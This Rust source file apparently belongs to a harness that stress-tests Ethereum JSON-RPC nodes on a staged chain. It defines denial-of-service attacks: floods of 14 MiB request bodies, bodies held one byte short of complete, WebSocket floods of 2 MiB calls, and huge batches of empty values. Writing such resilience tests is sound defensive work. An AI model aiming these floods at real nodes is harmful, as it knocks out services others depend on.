//! L2 and L3: requests of many bytes.

use serde_json::json;

use crate::{
    attack::Attack,
    programs::{PROGRAM, call, precompile_loop},
    wire::{Connection, Failure, Socket, request},
};

const BODY: usize = 14 * 1024 * 1024;

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "L2",
        "bodies, closed",
        "180 bodies of 14 MiB while calls run, then gone",
        |stage| {
            stage.set_code(PROGRAM, &precompile_loop(6))?;
            let params = json!([call(50_000_000, "0x"), "latest"]);
            let body = large("eth_call", &[]);
            stage.begin()?;
            let port = stage.chains[0];
            stage.crowd(8, move |stage, _| stage.first()?.ask("eth_call", params.clone()));
            // Six at a time, until there were 180: each leaves when it has sent.
            stage.crowd(6, move |_, _| {
                let mut client = Connection::open(port)?;
                client.post(&body)?;
                client.leave()?;
                Ok(())
            });
            stage.wait();
            Ok(stage.finding())
        },
    ),
    Attack::new("L3", "bodies, unfinished", "100 clients send all of 14 MiB but a byte", |stage| {
        let body = large("eth_call", &[]);
        stage.besiege(stage.scaled(100, 40), move |stage, _| {
            let mut client = stage.first()?;
            let head = client.head(body.len());
            client.write(head.as_bytes())?;
            client.write(&body[..body.len() - 1])?;
            stage.tally.sent(1);
            stage.wait();
            Ok(())
        })
    }),
    Attack::new("L3", "bodies, waiting", "60 calls of 14 MiB that wait for each other", |stage| {
        stage.set_code(PROGRAM, &precompile_loop(6))?;
        let data = format!("0x{}", "11".repeat(BODY / 2 - 1024));
        let body = request("eth_call", json!([call(50_000_000, &data), "latest"]));
        stage.besiege(stage.scaled(60, 30), move |stage, _| {
            let mut client = stage.first()?;
            client.post(&body)?;
            client.read()
        })
    }),
    Attack::new("L3", "WebSocket, large requests", "16 sockets send 64 calls of 2 MiB", |stage| {
        stage.set_code(PROGRAM, &precompile_loop(6))?;
        let data = format!("0x{}", "11".repeat(1 << 20));
        let body = request("eth_call", json!([call(50_000_000, &data), "latest"]));
        stage.besiege(16, move |stage, _| {
            let mut socket = Socket::open(stage.chains[0])?;
            for _ in 0..64 {
                socket.send(&body)?;
                stage.tally.sent(1);
            }
            stage.wait();
            Ok::<_, Failure>(())
        })
    })
    .long(),
    Attack::new("L3", "batches of nothing", "40 clients send 14 MiB of empty values", |stage| {
        let body = [b"[".as_slice(), &b"[],".repeat(BODY / 3 - 1), b"[]]"].concat();
        stage.besiege(stage.scaled(40, 16), move |stage, _| {
            let mut client = stage.first()?;
            client.post(&body)?;
            client.read()
        })
    })
    .long(),
];

/// A request of 14 MiB.
fn large(method: &str, more: &[serde_json::Value]) -> Vec<u8> {
    request(method, json!(["0".repeat(BODY), more]))
}
